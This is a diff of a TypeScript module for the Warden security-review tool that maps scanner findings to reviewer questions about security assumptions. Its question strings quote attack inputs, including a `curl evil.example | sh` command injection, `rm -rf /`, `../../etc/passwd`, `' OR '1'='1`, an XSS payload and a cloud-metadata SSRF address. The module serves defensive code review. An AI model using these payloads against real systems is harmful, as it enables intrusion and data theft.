@@ -1,12 +1,25 @@
-// Assumption challenge: lists the implicit security assumptions a piece of code makes, each tied to
-// its line, with the question a reviewer should ask and the requirement (from the rules) at stake.
+// Assumption challenge: the implicit security assumptions of a piece of code, each tied to its
+// line with the question a reviewer should ask. Built on the engine's findings (one assumption per
+// finding, with its own rule's requirement and the source → sink path, so no line cites a rule
+// that did not fire), plus the few questions a scanner cannot answer: who may call this, whether
+// the client sets the price, and what happens when a call hangs.
 
-import type { RuleClass } from '../protocol/classes';
+import { CLASSES, type RuleClass } from '../protocol/classes';
 import type { LanguageId } from '../protocol/languages';
-import type { CallFact } from '../protocol/requests';
-import { blankStrings, callArguments, isLiteral, subjectOf } from './calls';
-import { Knowledge } from './knowledge';
-import { topicsForClass } from './topics';
+import { blankStrings } from './calls';
+import { conceptText } from './concept-text';
+import type { Concept } from './concepts';
+import type { Knowledge } from './knowledge';
+
+/** A Warden finding as the coach needs it (engine Finding, LSP diagnostic or CLI JSON). */
+export interface ChallengeFinding {
+  ruleId: string;
+  class?: string;
+  /** Zero-based line of the finding. */
+  line: number;
+  /** Source → … → sink, when the finding comes from tracked data (zero-based lines). */
+  trace?: Array<{ line: number; label: string }>;
+}
 
 export interface Assumption {
   /** Zero-based line in the document. */
@@ -14,346 +27,203 @@ export interface Assumption {
   /** "assumes `filename` never contains `../` or an absolute path" */
   assumption: string;
   question: string;
-  /** The label class a wrong assumption leads to, when there is one. */
-  class?: RuleClass;
-  /** Topic for requirements when no class applies. */
-  topic: string;
-  /** The requirement at stake (a rule's `requirement`, or the topic table's text). */
+  /** The concept at stake: the finding's class, or a practice for the heuristic questions. */
+  concept: Concept;
+  /** The rule whose finding this is; absent for the heuristic questions. */
+  rule?: string;
+  /** The finding rule's requirement, or the concept's sentence for the heuristic questions. */
   requirement?: string;
+  /** "`req.query.file` (line 3) → `fs.readFile(p)` (line 7)" */
+  path?: string;
 }
 
-type Found = Omit<Assumption, 'line' | 'requirement' | 'topic'> & { topic?: string };
+const code = (s: string): string => `\`${s.length > 60 ? `${s.slice(0, 57)}…` : s}\``;
 
-interface Detector {
-  /** Tried on each line; returns the assumptions found there. */
-  find(line: string, context: { lines: string[]; index: number; whole: string; calls?: CallFact[] }): Found[];
-}
+type Phrase = (subject: string) => [assumption: string, question: string];
 
-const code = (s: string): string => `\`${s}\``;
-
-/**
- * Calls of `names` on the line: [argument lists]. From the parser's calls when the caller has them
- * (arguments complete even when a call spans lines), else read from the line's text.
- */
-function callsOf(line: string, names: RegExp, calls?: CallFact[]): string[][] {
-  if (calls) {
-    const callee = new RegExp(`(?:${names.source})\\s*$`);
-    return calls.filter((c) => callee.test(c.callee)).map((c) => c.args);
-  }
-  const out: string[][] = [];
-  const re = new RegExp(`(?:${names.source})\\s*\\(`, 'g');
-  for (const m of line.matchAll(re)) out.push(callArguments(line, m.index! + m[0].length - 1));
-  return out;
-}
-
-const FS_CALLS =
-  /\bos\.path\.join|\bopen|\bsend_file|\.save|\breadFileSync|\breadFile|\bwriteFileSync|\bwriteFile|\bcreateReadStream|\bsendFile|\bos\.(?:Open|OpenFile|ReadFile|WriteFile|Create|Remove)|\bfilepath\.Join|\bPaths\.get|\bnew\s+File(?:InputStream|OutputStream)?|\bpath\.(?:join|resolve)/;
-const CMD_CALLS =
-  /\bexec\.Command(?:Context)?|\b\w*(?:[Ee]xec|[Rr]un|[Ss]pawn)\w*(?:Command|Cmd|Shell|Script)\w*|\bos\.system|\bsubprocess\.\w+|\bexecSync|\bexecFile|\bspawn|\bRuntime\.getRuntime\(\)\.exec|\bnew\s+ProcessBuilder|\bpopen|\bchild_process\.\w+/;
-const SQL_TEXT = /(["'`])[^"'`]*\b(select\s|insert\s+into|update\s+\w+\s+set|delete\s+from|where\s)[^"'`]*/i;
-const REQUEST_FIELD =
-  /\b(request\.(?:files|form|args|json|values|cookies|headers)|req\.(?:body|query|params|cookies|headers)|data|body|params|payload)\s*(?:\[\s*(["'])([^"']+)\2\s*\]|\.(\w+))/g;
-const GO_ASSERTION = /([\w.]+(?:\[[^\]]+\])*)\.\(\s*([\w.*[\]{}]+)\s*\)/g;
-const ERROR_OUT =
-  /\b(Fprintf|Fprintln|Fprint|Write|WriteString|http\.Error|send|json|jsonify|status|JSON|String|end|write|print|getWriter\(\)\.print\w*)\s*\(.*\b(err|e|ex|exc|error|exception)\b(\.(Error|message|getMessage|toString|stack)\(?\)?)?/;
-const AUTH_WORDS =
-  /auth|login|session|current_user|currentUser|isAuthenticated|permission|role|token|principal|@login_required|requireUser|getUser/i;
-const HANDLER =
-  /@app\.(route|get|post|put|delete)|http\.ResponseWriter|\(\s*req\s*,\s*res\b|@(Get|Post|Put|Delete|Request)Mapping|HttpServletRequest|@router\.|def \w+\(request\b/;
-
-const DETECTORS: Detector[] = [
-  {
-    // File-system paths from variables: the classic traversal assumption.
-    find(line, { calls }) {
-      const out: Found[] = [];
-      for (const args of callsOf(line, FS_CALLS, calls)) {
-        for (const a of args.filter(
-          (x) => !isLiteral(x) && /^[\w.[\]'"()]+$/.test(x) && !/^(os\.path|path)\./.test(x),
-        )) {
-          const s = subjectOf(a);
-          out.push({
-            class: 'path-traversal',
-            assumption: `assumes ${code(s)} never contains \`../\` or an absolute path`,
-            question: `What stops ${code(s)} from being \`../../etc/passwd\`, and is the resolved path checked to stay inside the base folder?`,
-          });
-        }
-      }
-      return out;
-    },
-  },
-  {
-    find(line) {
-      if (!/\.save\s*\(|\brequest\.files\b|\bFormFile\s*\(|\bmulter\s*\(|\bMultipartFile\b|\bgetPart\s*\(/.test(line))
-        return [];
-      return [
-        {
-          class: 'file-upload',
-          assumption: 'assumes uploaded files are small and of a harmless type',
-          question:
-            'Where are the upload size limit and the extension / content-type allow-list enforced? Can an uploaded script or executable be served or run later?',
-        },
-      ];
-    },
-  },
-  {
-    // Values concatenated or interpolated into SQL text, including the continuation lines of one statement.
-    find(line, { lines, index, calls }) {
-      const continues = index > 0 && SQL_TEXT.test(lines[index - 1]) && /\+\s*$/.test(lines[index - 1].trim());
-      if (!SQL_TEXT.test(line) && !continues) return [];
-      const subjects = new Set<string>();
-      const blank = blankStrings(line);
-      for (const m of blank.matchAll(/\+\s*([A-Za-z_][\w.]*(?:\(\))?)|([A-Za-z_][\w.]*(?:\(\))?)\s*\+/g))
-        subjects.add(m[1] ?? m[2]);
-      for (const m of line.matchAll(/\$\{\s*([\w.]+)\s*\}|\{([A-Za-z_][\w.]*)\}/g)) subjects.add(m[1] ?? m[2]);
-      if (/%[sd]|\.format\(|Sprintf/.test(line))
-        for (const a of callsOf(line, /Sprintf|format/, calls)
-          .flat()
-          .filter((x) => !isLiteral(x)))
-          subjects.add(subjectOf(a));
-      const out: Found[] = [...subjects]
-        .filter((s) => !/^(query|sql|stmt|statement)$/i.test(s))
-        .map((s) => ({
-          class: 'sqli' as const,
-          assumption: `assumes ${code(s)} never contains SQL metacharacters such as \`'\` or \`--\``,
-          question: `What happens if ${code(s)} is \`' OR '1'='1\`? Why is this not a parameterized query?`,
-        }));
-      if (
-        /passw(or)?d\s*=\s*'?\s*["'`]?\s*\+|passw(or)?d\s*=\s*'?\$\{|passw(or)?d\s*=\s*'?\{/i.test(line) &&
-        subjects.size > 0
-      ) {
-        out.push({
-          class: 'weak-crypto',
-          topic: 'authentication',
-          assumption: 'assumes passwords are stored and compared in plaintext',
-          question:
-            'Are passwords stored as salted, slow hashes? Comparing the password inside SQL means they are stored in plaintext.',
-        });
-      }
-      return out;
-    },
-  },
-  {
-    find(line, { calls }) {
-      const out: Found[] = [];
-      for (const args of callsOf(line, CMD_CALLS, calls)) {
-        const dynamic = args.filter((a) => !isLiteral(a));
-        if (dynamic.length === 0) continue;
-        const s = subjectOf(dynamic[0]);
-        out.push({
-          class: 'cmdi',
-          assumption: `assumes ${code(s)} only ever names a safe, expected command`,
-          question: `Can a client choose what runs here? What if ${code(s)} is \`rm -rf /\` or contains \`; curl …\`?`,
-        });
-      }
-      return out;
-    },
-  },
-  {
-    find(line) {
-      const out: Found[] = [];
-      if (/^\s*[\w.]+\s*,\s*[\w.]+\s*:?=/.test(line)) return out; // comma-ok form
-      for (const m of line.matchAll(GO_ASSERTION)) {
-        if (m[2] === 'type') continue; // type switch
-        out.push({
-          class: 'type-assertion',
-          assumption: `assumes ${code(m[1])} is always present and a \`${m[2]}\``,
-          question: `What happens when ${code(m[1])} is missing or has another type: does the handler panic instead of answering 400?`,
-        });
-      }
-      return out;
-    },
-  },
-  {
-    find(line) {
-      const out: Found[] = [];
-      if (/^\s*[\w.]+\s*,\s*(ok|found|exists)\s*:?=/.test(line)) return out; // presence checked by comma-ok
-      for (const m of line.matchAll(REQUEST_FIELD)) {
-        const field = m[3] ?? m[4];
-        if (!field || /^(get|set|length|map|filter|toString)$/.test(field)) continue;
-        out.push({
-          topic: 'validation',
-          assumption: `assumes the request always contains ${code(field)}`,
-          question: `What does the code do when ${code(field)} is missing, empty, too long or of an unexpected type?`,
-        });
-      }
-      return out;
-    },
-  },
-  {
-    find(line) {
-      if (
-        !/json\.NewDecoder|JSON\.parse\s*\(|json\.loads?\s*\(|get_json\s*\(|readValue\s*\(|\bjson\.Unmarshal/.test(line)
-      )
-        return [];
-      return [
-        {
-          topic: 'validation',
-          assumption: 'assumes the body is well-formed JSON of the expected shape and a reasonable size',
-          question: 'Is the body size limited and its shape validated (required fields, types, lengths) before use?',
-        },
-      ];
-    },
-  },
-  {
-    find(line) {
-      const m = ERROR_OUT.exec(line);
-      if (!m || /\blog(ger)?\.|console\.|logging\./.test(line)) return [];
-      return [
-        {
-          class: 'info-leak',
-          assumption: `assumes the text of ${code(m[2])} contains nothing sensitive`,
-          question: `Could ${code(m[2])} reveal file paths, SQL, host names or library versions to the client? Log it server-side and answer with a generic message instead.`,
-        },
-      ];
-    },
-  },
-  {
-    find(line) {
-      if (!/document\.cookie\s*=|\.set_cookie\s*\(|res\.cookie\s*\(|http\.SetCookie|new Cookie\s*\(/.test(line))
-        return [];
-      return [
-        {
-          class: 'insecure-cookie',
-          assumption: 'assumes the cookie holds nothing sensitive and travels only over HTTPS to this site',
-          question:
-            'Are Secure, SameSite and an expiry set (and HttpOnly, from the server)? Could a script injected into the page read this cookie?',
-        },
-      ];
-    },
-  },
-  {
-    find(line, { calls }) {
-      const out: Found[] = [];
-      for (const args of callsOf(
-        line,
-        /\brequests\.(?:get|post|put)|\bfetch|\baxios(?:\.\w+)?|\bhttp\.(?:Get|Post)|\burlopen|\bgetForObject|\bnew\s+URL/,
-        calls,
-      )) {
-        if (args[0] && !isLiteral(args[0])) {
-          const s = subjectOf(args[0]);
-          out.push({
-            class: 'ssrf',
-            assumption: `assumes ${code(s)} points to a trusted host`,
-            question: `Can a client make the server fetch ${code(s)} = \`http://169.254.169.254/\` or an internal service?`,
-          });
-        }
-      }
-      for (const args of callsOf(line, /\bredirect|\bsendRedirect|\bhttp\.Redirect|\bres\.redirect/, calls)) {
-        const target = args.find(
-          (a) => !isLiteral(a) && !/^(w|r|res|req)$/.test(a) && !/^http\.Status/.test(a) && !/^\d+$/.test(a),
-        );
-        if (target) {
-          const s = subjectOf(target);
-          out.push({
-            class: 'open-redirect',
-            assumption: `assumes ${code(s)} is a local path`,
-            question: `What if ${code(s)} is \`https://evil.example/\`? Is the target checked against an allow-list?`,
-          });
-        }
-      }
-      const html =
-        /\.(innerHTML|outerHTML)\s*=\s*(.+)|dangerouslySetInnerHTML|\|\s*safe\b|Markup\s*\(|template\.HTML\s*\(/.exec(
-          line,
-        );
-      if (html && !(html[2] && isLiteral(html[2].replace(/;\s*$/, '')))) {
-        out.push({
-          class: 'xss',
-          assumption: 'assumes the inserted value contains no HTML or script',
-          question: 'What if the value is `<img src=x onerror=alert(1)>`? Is it escaped or sanitized first?',
-        });
-      }
-      if (/pickle\.loads?\s*\(|yaml\.load\s*\(|ObjectInputStream|unserialize\s*\(|marshal\.loads?\s*\(/.test(line)) {
-        out.push({
-          class: 'deserialization',
-          assumption: 'assumes the serialized data comes from a trusted party',
-          question:
-            'Could an attacker supply this data? Native deserializers run code chosen by whoever wrote the bytes.',
-        });
-      }
-      if (
-        /Math\.random\s*\(|\brandom\.(random|randint|choice)\s*\(|\brand\.(Intn|Int)\s*\(|new Random\s*\(/.test(line)
-      ) {
-        out.push({
-          class: 'weak-random',
-          assumption: 'assumes this random value cannot be predicted',
-          question: 'Is this value used for a token, id or password? A non-cryptographic generator can be predicted.',
-        });
-      }
-      return out;
-    },
-  },
+const GENERIC: Phrase = (s) => [
+  `assumes ${s} is safe to use here`,
+  `Where is ${s} checked before it reaches this line?`,
 ];
 
-/** A handler that never mentions authentication assumes every caller may use it. */
-function handlerAssumption(lines: string[]): (Found & { index: number }) | undefined {
-  const index = lines.findIndex((l) => HANDLER.test(l));
-  if (index < 0 || lines.some((l) => AUTH_WORDS.test(blankStrings(l)) || /login_required|authenticated/.test(l)))
-    return undefined;
+const BY_CLASS: Partial<Record<RuleClass, Phrase>> = {
+  sqli: (s) => [
+    `assumes ${s} never contains SQL syntax such as \`'\` or \`--\``,
+    `What happens if ${s} is \`' OR '1'='1\`? Why is this not a parameterized query?`,
+  ],
+  cmdi: (s) => [
+    `assumes ${s} never contains shell syntax or options`,
+    `What if ${s} is \`x; curl evil.example | sh\` or starts with \`-\`? Why does this need a shell?`,
+  ],
+  'code-injection': (s) => [`assumes ${s} is never code an attacker wrote`, `What if ${s} is \`process.exit()\`?`],
+  'path-traversal': (s) => [
+    `assumes ${s} never contains \`../\` or an absolute path`,
+    `What stops ${s} from being \`../../etc/passwd\`, and is the resolved path checked to stay inside the base folder?`,
+  ],
+  'file-upload': () => [
+    'assumes uploaded files are small and of a harmless type',
+    'Where are the size limit and the type allow-list enforced? Can an uploaded script be served or run later?',
+  ],
+  'insecure-cookie': () => [
+    'assumes the cookie only travels over HTTPS and no script can read it',
+    'Are Secure, HttpOnly and SameSite set? What could a script injected into the page do with it?',
+  ],
+  'info-leak': (s) => [
+    `assumes ${s} reveals nothing to the client`,
+    'Could it show file paths, SQL, hosts or versions? Log it server-side and answer with a generic message.',
+  ],
+  deserialization: (s) => [
+    `assumes ${s} comes from a trusted party`,
+    'Could an attacker supply these bytes? Native deserializers run code chosen by whoever wrote them.',
+  ],
+  'weak-crypto': () => [
+    'assumes this algorithm still protects the data',
+    'Is the algorithm broken (MD5, SHA-1, DES, ECB) or the key too short for what it protects?',
+  ],
+  'weak-random': () => [
+    'assumes this random value cannot be predicted',
+    'Is it a token, id or password? A non-cryptographic generator can be predicted.',
+  ],
+  'tls-verify': () => [
+    'assumes nobody sits between this program and the server',
+    'Why is certificate verification off? Anyone on the path can read and change the traffic.',
+  ],
+  xss: (s) => [
+    `assumes ${s} contains no HTML or script`,
+    `What if ${s} is \`<img src=x onerror=alert(1)>\`? Is it escaped or sanitized first?`,
+  ],
+  ssrf: (s) => [
+    `assumes ${s} points to a trusted host`,
+    `Can a client make the server fetch ${s} = \`http://169.254.169.254/\` or an internal service?`,
+  ],
+  xxe: () => [
+    'assumes the XML carries no DTD or external entities',
+    'What if the document defines an entity that reads `/etc/passwd`?',
+  ],
+  'open-redirect': (s) => [
+    `assumes ${s} is a local path`,
+    `What if ${s} is \`https://evil.example/\`? Is the target checked against an allow-list?`,
+  ],
+  'hardcoded-secret': () => [
+    'assumes this secret stays private although it is in the source',
+    'Who can read this repository and its history? Rotate it and load it from the environment.',
+  ],
+  'type-assertion': (s) => [
+    `assumes ${s} is always present and of the asserted type`,
+    'What happens when the field is missing or has another type: a panic instead of a 400?',
+  ],
+  jwt: () => [
+    'assumes the token was issued by us',
+    'Is the signature verified with a fixed algorithm and are exp, iss and aud checked?',
+  ],
+  cors: () => [
+    'assumes only our own pages call this with credentials',
+    'Which origins can read the responses with the user’s cookies?',
+  ],
+};
+
+function pathOf(f: ChallengeFinding): string | undefined {
+  if (!f.trace || f.trace.length < 2) return undefined;
+  return f.trace.map((s) => `${code(s.label)} (line ${s.line + 1})`).join(' → ');
+}
+
+function fromFinding(f: ChallengeFinding, knowledge: Knowledge): Assumption {
+  const rule = knowledge.rule(f.ruleId);
+  const cls = (rule?.class ?? f.class ?? f.ruleId.split('/')[1]) as RuleClass;
+  const subject = f.trace?.length ? code(f.trace[0].label) : 'this value';
+  const [assumption, question] = (BY_CLASS[cls] ?? GENERIC)(subject);
+  const path = pathOf(f);
   return {
-    index,
-    topic: 'authentication',
-    assumption: 'assumes every caller is allowed to use this endpoint',
-    question: 'Who may call this? Where are authentication, authorization and rate limiting enforced?',
+    line: f.line,
+    assumption,
+    question,
+    concept: cls in CLASSES ? cls : 'input-validation',
+    rule: f.ruleId,
+    ...(rule?.requirement ? { requirement: rule.requirement } : {}),
+    ...(path ? { path } : {}),
   };
+}
+
+const HANDLER =
+  /@app\.(route|get|post|put|delete|patch)|@router\.\w+|http\.ResponseWriter|\(\s*req\s*,\s*res\b|\bctx\s*\*?gin\.Context|@(Get|Post|Put|Delete|Patch|Request)Mapping|HttpServletRequest|def \w+\(request\b|\bc\.(Param|Query|Bind)\w*\(/;
+const AUTH_WORDS =
+  /auth|login|session|current_?user|\b(req|request)\.user\b|permission|role|principal|owner|tenant|login_required|requireUser|getUser|isAdmin|can\w*\(|Depends\(/i;
+const MONEY_FROM_REQUEST =
+  /\b(req|request|body|params|form|query|data|payload|dto|input)\b[^\n]*\b(price|amount|total|cost|discount|quantity|qty|balance|credits?|role|is_?admin)\b/i;
+const SLOW_CALL =
+  /\brequests\.(get|post|put|delete|request)\(|\bfetch\(|\baxios(\.\w+)?\(|\bhttp\.(Get|Post|Do)\(|\bclient\.Do\(|\burlopen\(|\bHttpClient\b|\bRestTemplate\b|\bsubprocess\.\w+\(|\bexec\.Command\(|\bexecFile\(|\bspawn\(|\bProcessBuilder\b/;
+
+/** The questions no scanner can answer, each asked once, at the first line it concerns. */
+function heuristics(lines: string[], start: number, language?: LanguageId): Assumption[] {
+  const out: Assumption[] = [];
+  const code = lines.map(blankStrings);
+  const ask = (index: number, concept: Concept, assumption: string, question: string): void => {
+    const requirement = conceptText(concept, language);
+    out.push({ line: start + index, assumption, question, concept, ...(requirement ? { requirement } : {}) });
+  };
+  const handler = lines.findIndex((l) => HANDLER.test(l));
+  if (handler >= 0 && !code.some((l) => AUTH_WORDS.test(l)))
+    ask(
+      handler,
+      'authorization',
+      'assumes every caller may use this endpoint and act on any record it names',
+      'Who may call this? Where is it checked that the caller owns the record or may act on it?',
+    );
+  const money = lines.findIndex((l) => MONEY_FROM_REQUEST.test(l));
+  if (money >= 0)
+    ask(
+      money,
+      'input-validation',
+      'assumes the client sends honest prices, amounts, quantities or roles',
+      'Could a client change this value? Business values should come from the server, not the request.',
+    );
+  const slow = lines.findIndex((l) => SLOW_CALL.test(l));
+  if (slow >= 0 && !lines.some((l) => /timeout|deadline|context\.With|signal:\s*AbortSignal/i.test(l)))
+    ask(
+      slow,
+      'resource-limits',
+      'assumes this call always returns quickly',
+      'What happens when it hangs or returns gigabytes? Where are the timeout and the size limit?',
+    );
+  return out;
 }
 
 export interface AssumptionOptions {
   /** Line of the first line of `text` in the document. */
   startLine?: number;
   language?: LanguageId;
-  /** The parser's calls in the document (document lines); without them calls are read from the text. */
-  calls?: CallFact[];
 }
 
-export function findAssumptions(text: string, knowledge: Knowledge, options: AssumptionOptions = {}): Assumption[] {
+/** One assumption per Warden finding in the text's lines, then the heuristic questions, by line. */
+export function challengeAssumptions(
+  text: string,
+  findings: readonly ChallengeFinding[],
+  knowledge: Knowledge,
+  options: AssumptionOptions = {},
+): Assumption[] {
   const lines = text.split(/\r\n|\r|\n/);
   const start = options.startLine ?? 0;
-  const out: Assumption[] = [];
   const seen = new Set<string>();
-  const push = (index: number, f: Found): void => {
-    const key = `${index}|${f.assumption}`;
-    if (seen.has(key)) return;
+  const out: Assumption[] = [];
+  for (const f of findings) {
+    if (f.line < start || f.line >= start + lines.length) continue;
+    const key = `${f.ruleId}|${f.line}`;
+    if (seen.has(key)) continue;
     seen.add(key);
-    const topic = f.topic ?? (f.class ? topicsForClass(f.class)[0]?.id : undefined) ?? 'validation';
-    out.push({
-      ...f,
-      line: start + index,
-      topic,
-      requirement: requirementFor(knowledge, f.class, topic, options.language),
-    });
-  };
-  const handler = handlerAssumption(lines);
-  if (handler) push(handler.index, handler);
-  lines.forEach((line, index) => {
-    if (/^\s*(\/\/|#|\*|\/\*|--)/.test(line)) return; // comments state no assumptions
-    const calls = options.calls?.filter((c) => c.line === start + index);
-    for (const d of DETECTORS) for (const f of d.find(line, { lines, index, whole: text, calls })) push(index, f);
-  });
+    out.push(fromFinding(f, knowledge));
+  }
+  out.push(...heuristics(lines, start, options.language));
   return out.sort((a, b) => a.line - b.line);
 }
 
-/** The rule requirement for the class (language preferred), else the topic's first requirement. */
-function requirementFor(
-  knowledge: Knowledge,
-  cls: RuleClass | undefined,
-  topic: string,
-  language?: LanguageId,
-): string | undefined {
-  const reqs = knowledge.requirementsFor(topic, language);
-  if (cls) {
-    const byClass = reqs.find((r) => r.ruleIds.some((id) => knowledge.rule(id)?.class === cls));
-    if (byClass) return byClass.text;
-  }
-  return reqs[0]?.text;
-}
-
-/** Plain-text rendering for the side document. */
+/** Plain-text rendering for the side document and the CLI. */
 export function renderAssumptions(items: Assumption[], fileLabel: string): string {
   if (items.length === 0)
-    return `# Assumptions in ${fileLabel}\n\nNo implicit security assumptions found by Warden's heuristics. Still ask: who calls this, with what data?\n`;
+    return `# Assumptions in ${fileLabel}\n\nWarden found nothing here and no open question. Still ask: who calls this, with what data?\n`;
   const out = [`# Assumptions in ${fileLabel}`, '', 'Challenge each one before approving the code.', ''];
   for (const a of items) {
-    out.push(`- Line ${a.line + 1}: ${a.assumption}`, `  Ask: ${a.question}`);
+    out.push(`- Line ${a.line + 1}: ${a.assumption}${a.rule ? ` (${a.rule})` : ''}`, `  Ask: ${a.question}`);
+    if (a.path) out.push(`  Path: ${a.path}`);
     if (a.requirement) out.push(`  Requirement: ${a.requirement}`);
   }
   return out.join('\n') + '\n';
